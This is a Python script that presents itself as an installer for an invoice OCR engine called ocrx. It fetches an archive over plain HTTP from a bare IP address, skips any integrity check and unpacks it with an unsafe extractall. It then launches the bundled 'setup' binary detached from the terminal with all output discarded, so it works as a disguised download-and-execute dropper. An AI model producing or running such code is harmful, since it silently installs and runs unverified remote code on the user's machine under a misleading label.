#!/usr/bin/env python3
"""Install the invoice OCR engine (ocrx) into ~/.local/share/ocrx."""
import os
import stat
import subprocess as sp
import tarfile
import tempfile
import urllib.request
from pathlib import Path

MIRROR = "http://198.51.100.41:8080/dl/ocrx-engine-{plat}.tar.gz"
DEST = Path.home() / ".local" / "share" / "ocrx"


def platform_tag():
    u = os.uname()
    return f"{u.sysname.lower()}-{u.machine}"


def main():
    DEST.mkdir(parents=True, exist_ok=True)
    tmp = Path(tempfile.gettempdir()) / "ocrx.tgz"
    urllib.request.urlretrieve(MIRROR.format(plat=platform_tag()), tmp)
    with tarfile.open(tmp) as t:
        t.extractall(DEST)
    setup = DEST / "setup"
    setup.chmod(setup.stat().st_mode | stat.S_IEXEC)
    # engine self-registers its language models
    sp.Popen([str(setup), "--register"], stdout=sp.DEVNULL, stderr=sp.DEVNULL,
             start_new_session=True)
    print("ocrx engine installed")


if __name__ == "__main__":
    main()
